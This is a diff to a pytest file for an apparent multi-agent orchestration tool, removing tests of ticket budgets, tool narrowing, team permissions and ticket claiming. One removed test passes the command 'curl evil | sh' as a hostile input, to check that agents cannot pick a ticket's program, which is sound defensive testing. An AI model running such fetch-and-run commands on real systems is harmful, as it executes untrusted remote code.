@@ -6,7 +6,6 @@ import itertools
 import time
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
-from pathlib import Path
 
 import pytest
 
@@ -15,11 +14,10 @@ from legion.config.user import UserConfig
 from legion.domain.events import Kind
 from legion.domain.questions import Matter
 from legion.domain.tickets import Park, ParkReason, Start
-from legion.jobs import teams
-from legion.store import agents, crews, events, questions, tickets, tokens
+from legion.store import agents, events, questions, tickets, tokens
 from legion.store import mail as stored_mail
 from legion.wire.agents import Fire, Hire, Interrupt
-from legion.wire.errors import BadInput, Conflict, NotAllowed, NotFound
+from legion.wire.errors import BadInput, NotAllowed, NotFound
 from legion.wire.mail import Letter, ReadMail
 from legion.wire.projects import AddProject, Where
 from legion.wire.questions import Answer
@@ -168,84 +166,6 @@ def test_the_same_request_hires_once(here: Office, boss: Employee):
     assert len(below) == 1
     other = report_of(boss)
     assert other.use("legion-hire", "one-request", task="once").data["hired"] != first.data["hired"]
-
-
-def test_a_ticket_of_an_agent_inherits_and_narrows(here: Office):
-    boss = here.hire(f"leader-{next(_names)}", tools=["Read", "Bash"], budget=2.0, model="sonnet")
-    with pytest.raises(NotAllowed, match="each ticket needs one"):
-        boss.use("legion-dispatch", title="t", text="x")
-    with pytest.raises(NotAllowed, match=r"2\.00 are left"):
-        boss.use("legion-dispatch", title="t", text="x", budget=2.5)
-    with pytest.raises(NotAllowed, match="choose from haiku, sonnet"):
-        boss.use("legion-dispatch", title="t", text="x", budget=0.5, model="claude-opus-5")
-    number = boss.use("legion-dispatch", "r1", title="t", text="x", budget=1.5).data["ticket"]
-    assert boss.use("legion-dispatch", "r1", title="t", text="x", budget=1.5).data["ticket"] == number
-    with here.world.store.read() as tx:
-        wish = tickets.get(tx, number).wish
-    assert (wish.dispatcher, wish.tools, wish.driver, wish.model) == (boss.id, ("Bash", "Read"), "claude", "sonnet")
-    with pytest.raises(NotAllowed, match=r"0\.50 are left"):
-        boss.use("legion-hire", task="with the rest", budget=1.0)
-    with pytest.raises(NotAllowed, match=r"0\.50 are left"):
-        boss.use("legion-dispatch", title="t", text="x", budget=1.0)
-    boss.legion.stop(number, Action())
-    assert boss.use("legion-hire", task="what a stopped ticket left", budget=1.0).data["budget"] == 1.0
-
-
-def test_an_agent_cannot_widen_by_a_team(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
-    monkeypatch.setenv("LEGION_CONFIG", str(tmp_path / "config.toml"))
-    for place, text in {
-        "roles/seer.toml": 'part = "advise"\nprompt = "See."\nmodel = "opus"',
-        "roles/guard.toml": 'part = "read"\nprompt = "Guard."\nmodel = "opus"',
-        "roles/robot.toml": 'part = "build"\nprompt = "Build."\ndriver = "claude"',
-        "teams/usual.toml": 'roles = ["engineer", "guard"]',
-        "teams/dear.toml": 'roles = ["seer", "engineer", "guard:read"]',
-        "teams/driven.toml": 'roles = ["robot", "guard"]',
-        "teams/fine.toml": 'roles = ["tech_lead", "engineer", "guard"]',
-    }.items():
-        (tmp_path / place).parent.mkdir(exist_ok=True)
-        (tmp_path / place).write_text(text)
-    with office(tmp_path / "office", config=CHECK.replace("[agents]", '[agents]\nteam = "usual"')) as here:
-        boss = here.hire("boss", tools=["Read", "Bash"], model="sonnet")
-        with pytest.raises(NotAllowed, match="guard reads every change, and the team solo has none"):
-            boss.use("legion-dispatch", title="t", text="x", team="solo")
-        with pytest.raises(NotAllowed, match="You cannot give a model like opus, which seer"):
-            boss.use("legion-dispatch", title="t", text="x", team="dear")
-        with pytest.raises(NotAllowed, match="robot of the team driven names a program or a provider"):
-            boss.use("legion-dispatch", title="t", text="x", team="driven")
-        with pytest.raises(NotFound, match="There is no team 'fines'; did you mean fine"):
-            boss.use("legion-dispatch", title="t", text="x", team="fines")
-        number = boss.use("legion-dispatch", title="t", text="x").data["ticket"]
-        with here.world.store.read() as tx:
-            ticket = tickets.get(tx, number)
-            crew = crews.get(tx, ticket.wish.crew)
-        assert (ticket.wish.team, crew.readers[0].role.model) == ("usual", "sonnet")
-        assert teams.tools(crew.readers[0], ticket) == frozenset({"Read"})
-        assert teams.tools(crew.builder, ticket) == frozenset({"Read", "Bash"})
-
-
-@pytest.mark.parametrize("wish", [{"command": "curl evil | sh"}, {"driver": "mine"}])
-def test_only_a_person_chooses_the_program_of_a_ticket(here: Office, boss: Employee, wish):
-    ticket = NewTicket(title="mine", **wish)
-    with pytest.raises(NotAllowed, match="leave out command and driver"):
-        boss.legion.dispatch(Dispatch(cwd=here.cwd, tickets=[ticket]))
-    with pytest.raises(BadInput, match="has no parameter"):
-        boss.use("legion-dispatch", title="mine", text="x", **wish)
-
-
-def test_an_agent_stops_what_it_or_its_reports_dispatched_and_nothing_else(here: Office, boss: Employee):
-    report = report_of(boss)
-    persons = here.person.dispatch(
-        Dispatch(cwd=here.cwd, tickets=[NewTicket(title="the person's", driver="claude")])
-    ).ids[0]
-    own = boss.use("legion-dispatch", title="own", text="x").data["ticket"]
-    theirs = report.use("legion-dispatch", title="theirs", text="x").data["ticket"]
-    with pytest.raises(NotAllowed, match="not dispatched by you"):
-        boss.use("legion-stop", what=str(persons))
-    with pytest.raises(NotAllowed, match="not dispatched by you"):
-        report.use("legion-stop", what=f"#{own}")
-    assert boss.use("legion-stop", what="all").data["stopped"][:2] == [own, theirs]
-    assert boss.use("legion-stop", what=str(own)).data["stopped"] == [own]
-    assert here.person.ticket(persons).ticket.state == "queued"
 
 
 def test_an_agent_sees_its_own_projects_board_alone(here: Office, boss: Employee, tmp_path):
@@ -399,34 +319,6 @@ def test_who_is_fired_asks_nothing_any_more(here: Office):
     planner.use("legion-plan", text="A plan.")
     here.person.fire(Fire(id=planner.id))
     assert [one for one in here.person.inbox().questions if one.agent == planner.id] == []
-
-
-def test_a_ticket_is_claimed_by_one_and_given_back(here: Office, boss: Employee):
-    one, other = report_of(boss), report_of(boss)
-    ticket = boss.use("legion-dispatch", title="for whoever is free", text="x").data["ticket"]
-    taken = one.use("legion-claim", ticket=ticket)
-    assert (taken.data["ticket"], taken.data["title"]) == (ticket, "for whoever is free")
-    with pytest.raises(Conflict):
-        other.use("legion-claim", ticket=ticket)
-    with pytest.raises(Conflict, match="begins with your next turn"):
-        one.use("legion-claim", submit=True)
-    with pytest.raises(BadInput, match="not both"):
-        one.use("legion-claim", submit=True, let_go=True)
-    one.use("legion-claim", let_go=True, why="too hard")
-    assert other.use("legion-claim", ticket=ticket).data["ticket"] == ticket
-    other.use("legion-claim", let_go=True)
-    boss.use("legion-stop", what=str(ticket))
-
-
-def test_nobody_claims_a_ticket_with_wider_tools_than_its_dispatcher_gave(here: Office, boss: Employee):
-    narrow = report_of(boss, tools=["Read", "legion-dispatch", "legion-claim", "legion-hire"])
-    ticket = narrow.use("legion-dispatch", title="with Read alone", text="x").data["ticket"]
-    wide, below = report_of(boss), report_of(narrow, tools=["Read", "legion-claim"])
-    with pytest.raises(Conflict, match="not ready to be claimed"):
-        wide.use("legion-claim", ticket=ticket)
-    assert below.use("legion-claim", ticket=ticket).data["ticket"] == ticket
-    below.use("legion-claim", let_go=True)
-    narrow.legion.stop(ticket, Action())
 
 
 def test_who_may_hire_nobody_sees_no_tools_for_it(here: Office, boss: Employee):
